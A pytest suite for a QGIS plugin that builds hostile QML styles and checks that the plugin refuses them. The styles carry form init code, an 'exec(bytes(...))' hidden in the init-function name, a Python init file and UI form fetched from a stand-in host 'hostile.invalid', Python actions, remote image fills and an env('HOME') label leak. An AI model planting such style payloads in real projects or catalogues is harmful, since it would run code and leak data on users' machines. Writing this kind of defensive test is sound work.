"""Attacks through catalogue styles (docs/security.md): a QML style that runs Python when a feature form opens,
names files on other servers, or sets the plugin's own properties. Tried on loopback as an attacker would: the
styles are made by QGIS itself (exportNamedStyle), the "other server" is a recording server on 127.0.0.2."""
from __future__ import annotations

import json
from pathlib import Path
from typing import Dict

import pytest
from qgis.core import (
    QgsAction,
    QgsCategorizedSymbolRenderer,
    QgsEditFormConfig,
    QgsFillSymbol,
    QgsMapLayer,
    QgsPalLayerSettings,
    QgsRasterFillSymbolLayer,
    QgsReadWriteContext,
    QgsRendererCategory,
    QgsSingleSymbolRenderer,
    QgsSVGFillSymbolLayer,
    QgsVectorLayer,
    QgsVectorLayerSimpleLabeling,
)
from qgis.PyQt.QtXml import QDomDocument

from conftest import wait_for_tasks
from desktop_runner import QGIS, XVFB_RUN, run_in_desktop
from dego_plugin.model.catalogue import parse_catalogue
from dego_plugin.layers.qml_safety import catalogue_style_check, style_refusal
from dego_plugin.service import settings
from dego_plugin.tools.faultserver import FaultServer, catalogue, layer

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
SESSION_SECONDS = 240
VARIANTS = ("init-code", "init-function", "init-file", "action", "ui-form", "images", "custom-properties")
# Refused too, but nothing for a form or the network to show: map tips show on hover, expressions are printed.
TEXT_VARIANTS = ("map-tip", "label-expression", "legend-expression")


def _writes(marker: Path) -> str:
    return f'open({str(marker)!r}, "w").write("ran")'


PLACEHOLDER = "http://hostile.invalid"  # QGIS fetches a form or init file as soon as it is set: not from here


def hostile_styles(markers: Path, hostile: str, variants=VARIANTS) -> Dict[str, str]:
    """Each attack of a style, as QGIS itself writes it (all style categories): {variant: QML}; `hostile` is the
    other server's base URL."""
    styles = {}
    for variant in variants:
        layer = QgsVectorLayer("Polygon?crs=EPSG:28992&field=buurtcode:string", "aanval", "memory")
        layer.setRenderer(QgsSingleSymbolRenderer(QgsFillSymbol.createSimple({"color": "200,0,0,255"})))
        form = layer.editFormConfig()
        code = _writes(markers / f"{variant}.txt")
        if variant == "init-code":  # QGIS runs the code when the form opens
            form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceDialog)
            form.setInitFunction("dego_form_open")
            form.setInitCode(f"{code}\ndef dego_form_open(dialog, layer, feature):\n    {code}\n")
        elif variant == "init-function":  # QGIS evaluates the function *name*
            form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceEnvironment)
            form.setInitFunction(f"exec(bytes({list(code.encode())}))")
        elif variant == "init-file":  # Python fetched from another server
            form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceFile)
            form.setInitFilePath(f"{PLACEHOLDER}/payload/formulier.py")
            form.setInitFunction("dego_form_open")
        elif variant == "ui-form":  # a form fetched from another server
            form.setUiForm(f"{PLACEHOLDER}/payload/formulier.ui")
            form.setLayout(QgsEditFormConfig.EditorLayout.UiFileLayout)
        elif variant == "action":
            layer.actions().addAction(QgsAction(QgsAction.ActionType.GenericPython, "Open", code))
        elif variant == "images":  # SVG and raster fills on another server
            symbol = layer.renderer().symbol()
            symbol.appendSymbolLayer(QgsSVGFillSymbolLayer(f"{PLACEHOLDER}/payload/arcering.svg"))
            raster = QgsRasterFillSymbolLayer(f"{PLACEHOLDER}/payload/textuur.png")
            symbol.appendSymbolLayer(raster)
        elif variant == "custom-properties":  # the plugin's own marks: a mask layer is never clipped
            layer.setCustomProperty("dego/role", "mask")
            layer.setCustomProperty("dego/own_extent", "POLYGON((0 0,1 0,1 1,0 0))")
        elif variant == "map-tip":  # HTML shown when the pointer rests on a feature
            layer.setMapTipTemplate(f'<img src="{PLACEHOLDER}/payload/kaarttip.png">')
        elif variant == "label-expression":  # the user's environment printed on the map
            labels = QgsPalLayerSettings()
            labels.fieldName, labels.isExpression = "env('HOME')", True
            layer.setLabeling(QgsVectorLayerSimpleLabeling(labels))
            layer.setLabelsEnabled(True)
        elif variant == "legend-expression":  # legends evaluate class labels in print layouts
            layer.setRenderer(QgsCategorizedSymbolRenderer("buurtcode", [QgsRendererCategory(
                "BU1", QgsFillSymbol.createSimple({"color": "0,0,200,255"}), "[% @layout_name %]")]))
        layer.setEditFormConfig(form)
        document = QDomDocument("qgis")
        everything = QgsMapLayer.StyleCategory.AllStyleCategories
        assert layer.exportNamedStyle(document, QgsReadWriteContext(), everything) == ""
        styles[variant] = document.toString().replace(PLACEHOLDER, hostile)
    return styles


def buurten_entry(reference_service) -> dict:
    return {"id": "buurten-aanval", "title": "Buurten", "theme": "t",
            "service": {"type": "wfs", "url": reference_service.ows_url, "typename": "buurten", "version": "1.1.0"}}


@pytest.mark.skipif(not (QGIS and XVFB_RUN), reason="needs the qgis desktop and xvfb (make deps)")
def test_no_style_runs_code_or_reaches_another_server_when_forms_open_under_any_macro_setting(reference_service,
                                                                                              tmp_path):
    markers = tmp_path / "markers"
    markers.mkdir()
    with FaultServer(host="127.0.0.2", max_seconds=SESSION_SECONDS + 120) as hostile:
        payload = f"{_writes(markers / 'init-file.txt')}\ndef dego_form_open(*a):\n    pass\n"
        hostile.documents["payload"] = payload.encode()  # the init file: Python
        attack = {"styles": hostile_styles(markers, hostile.base_url), "hostile": hostile.base_url,
                  "clean": hostile_styles(markers, "", ("clean",))["clean"]}
        (tmp_path / "styles.json").write_text(json.dumps(attack), encoding="utf-8")
        result = tmp_path / "result.json"
        env = dict(DEGO_PLUGINS=str(ROOT / ".build" / "plugins"), DEGO_DESKTOP_OUT=str(result),
                   DEGO_ATTACK_STYLES=str(tmp_path / "styles.json"),
                   DEGO_ATTACK_ENTRY=json.dumps(buurten_entry(reference_service)))
        code, stderr = run_in_desktop(HERE / "desktop_style_attacks.py", tmp_path / "profiles", tmp_path, env,
                                      SESSION_SECONDS)
        reached = hostile.requests()
    assert result.exists(), f"QGIS ended ({code}) without a result:\n{stderr[-3000:]}"
    seen = json.loads(result.read_text(encoding="utf-8"))
    assert seen["finished"] == "done", seen.get("error")
    assert len(seen["runs"]) == 4 * len(VARIANTS)
    assert sorted(p.name for p in markers.iterdir()) == []  # no code ran: no marker file
    assert reached == []  # nothing asked of the other server: no form, script or image
    for run in seen["runs"]:
        where = f"{run['setting']} / {run['variant']}"
        # the plugin's way in: the layer is not added, and the user reads why
        assert not run["plugin_added"] and "its style is refused" in run["plugin_refusal"], where
        # a layer that carried form code and actions loses them when a catalogue style is applied
        nothing = {"actions": 0, "init_code": "", "init_function": "", "init_file": "", "ui_form": "",
                   "custom_keys": []}
        assert run["apply_error"] == "" and run["reset_layer"] == nothing, where


def test_a_catalogue_entry_with_an_unsafe_style_is_skipped_with_its_reason_and_the_rest_loads(tmp_path, iface,
                                                                                            qtbot, monkeypatch):
    styles = hostile_styles(tmp_path, "http://127.0.0.2:9", VARIANTS + TEXT_VARIANTS)
    wfs = {"type": "wfs", "url": "https://service.example.nl/wfs", "typename": "x:buurten"}
    entries = [layer(f"stijl-{name}", f"Stijl {name}", service=wfs, style={"qml": qml}) for name, qml in styles.items()]
    clean = hostile_styles(tmp_path, "", ("clean",))["clean"]  # all categories, nothing set: nothing to refuse
    entries.append(layer("veilig", "Veilige laag", service=wfs, style={"qml": clean}))
    with FaultServer(max_seconds=120) as server:
        server.set_good(catalogue(entries))
        monkeypatch.setenv("DEGO_CACHE_DIR", str(tmp_path / "cache"))
        monkeypatch.setenv("DEGO_CATALOGUE_URL", server.url("ok"))
        from dego_plugin import classFactory

        plugin = classFactory(iface)
        plugin.initGui()
        wait_for_tasks(qtbot)
        try:
            assert [e.id for e in plugin.catalogue.layers] == ["veilig"]
            assert "Layers skipped: 10" in plugin.dock.problems_label.text()
            plugin.dock.show_problems()
            details = plugin.dock._problems_text.toPlainText().splitlines()
            plugin.dock._problems_dialog.close()
        finally:
            plugin.unload()
    assert len(details) == 10 and all(": unsafe style (the style is refused (" in line for line in details)
    reasons = dict(zip(VARIANTS + TEXT_VARIANTS, details))
    expected = {"init-code": "form code: <editforminit>", "init-function": "form code: <editforminit>",
                "init-file": "form code: <editforminit>", "ui-form": "form code: <editform>",
                "action": 'actions: <actionsetting name="Open">', "images": "resource: 'http://127.0.0.2:9/payload/",
                "custom-properties": "custom properties: <customproperties>", "map-tip": "map tip: <mapTip>",
                "label-expression": "expression: 'env('HOME')'",
                "legend-expression": "expression: '[% @layout_name %]'"}
    for variant, found in expected.items():
        assert found in reasons[variant], (variant, reasons[variant])


def test_a_style_fetched_when_the_layer_is_added_is_checked_too(reference_service, loader, qtbot, tmp_path):
    with FaultServer(max_seconds=120) as server:
        server.documents["stijlen"] = hostile_styles(tmp_path, "http://127.0.0.2:9")["action"].encode()
        entry = parse_catalogue(json.dumps({"version": "1.0", "themes": [{"id": "t", "title": "T"}], "layers": [
            dict(buurten_entry(reference_service), style={"qml_url": f"{server.base_url}/stijlen/buurten.qml"})]}),
            settings.allowed_hosts()).layers[0]
        loader.add(entry)
        wait_for_tasks(qtbot)
    assert loader._project.mapLayers() == {}
    (level, text), = loader.messages
    assert text.startswith("Could not add “Buurten”: its style is refused: it carries actions")


def test_the_bundled_and_reference_styles_pass_the_check(reference_service):
    for document in (json.loads((ROOT / "resources" / "catalogue.json").read_text(encoding="utf-8")),
                     reference_service.catalogue()):
        parsed = parse_catalogue(json.dumps(document), settings.allowed_hosts(),
                                 catalogue_style_check(settings.allowed_hosts()))
        assert parsed.problems == () and len(parsed.layers) == len(document["layers"])


def test_the_catalogue_builder_writes_symbology_and_labels_only(tmp_path, qgis_app):
    from qgis.core import QgsProject

    from dego_plugin.tools import build_catalogue as tool

    project = QgsProject()
    group = project.layerTreeRoot().addGroup("Energie")
    made = {}
    for title in ("Met formuliercode", "Met env-label"):
        uri = f"url='http://service.pdok.nl/wfs' typename='x:{len(made)}' srsname='EPSG:28992'"
        made[title] = QgsVectorLayer(uri, title, "WFS")
        project.addMapLayer(made[title], False)
        group.addLayer(made[title])
    coded = made["Met formuliercode"]  # what a team member may have left on a layer, on purpose or not
    form = coded.editFormConfig()
    form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceDialog)
    form.setInitFunction("open_form")
    form.setInitCode("def open_form(*a):\n    pass\n")
    coded.setEditFormConfig(form)
    coded.actions().addAction(QgsAction(QgsAction.ActionType.GenericPython, "Open", "print(1)"))
    coded.setCustomProperty("dego/role", "mask")
    coded.setMapTipTemplate("<b>[% buurtnaam %]</b>")
    labels = QgsPalLayerSettings()
    labels.fieldName, labels.isExpression = "env('HOME')", True
    made["Met env-label"].setLabeling(QgsVectorLayerSimpleLabeling(labels))
    made["Met env-label"].setLabelsEnabled(True)
    path = tmp_path / "team.qgs"
    assert project.write(str(path))

    result = tool.build_catalogue(path)
    entry, = result.document["layers"]
    assert entry["title"] == "Met formuliercode"
    qml = entry["style"]["qml"]
    assert style_refusal(qml, ()) is None  # nothing the plugin would refuse: only symbology (and labels)
    assert "open_form" not in qml and "actionsetting" not in qml and "dego/role" not in qml and "buurtnaam" not in qml
    assert {s.layer: s.reason for s in result.skipped} == {
        "Energie / Met env-label": "its style would be refused by the plugin: expression ('env('HOME')')"}


def test_only_symbology_and_labels_of_a_style_are_imported():
    from qgis.core import QgsField
    from qgis.PyQt.QtCore import QVariant

    from dego_plugin.layers.style import apply_qml

    source = QgsVectorLayer("Polygon?crs=EPSG:28992&field=buurtcode:string", "bron", "memory")
    source.setFieldAlias(0, "Buurt (alias)")
    source.addExpressionField("'virtueel'", QgsField("virtueel", QVariant.String))  # a virtual field: evaluated
    source.setRenderer(QgsCategorizedSymbolRenderer("buurtcode", [QgsRendererCategory(
        "BU1", QgsFillSymbol.createSimple({"color": "0,0,200,255"}), "Buurt 1")]))
    document = QDomDocument("qgis")
    source.exportNamedStyle(document, QgsReadWriteContext(), QgsMapLayer.StyleCategory.AllStyleCategories)
    assert style_refusal(document.toString(), ()) is None  # nothing to refuse: it is about what is imported
    target = QgsVectorLayer("Polygon?crs=EPSG:28992&field=buurtcode:string", "doel", "memory")
    assert apply_qml(target, document.toString()) == ""
    assert target.renderer().type() == "categorizedSymbol"
    assert target.fields().names() == ["buurtcode"] and target.attributeAlias(0) == ""
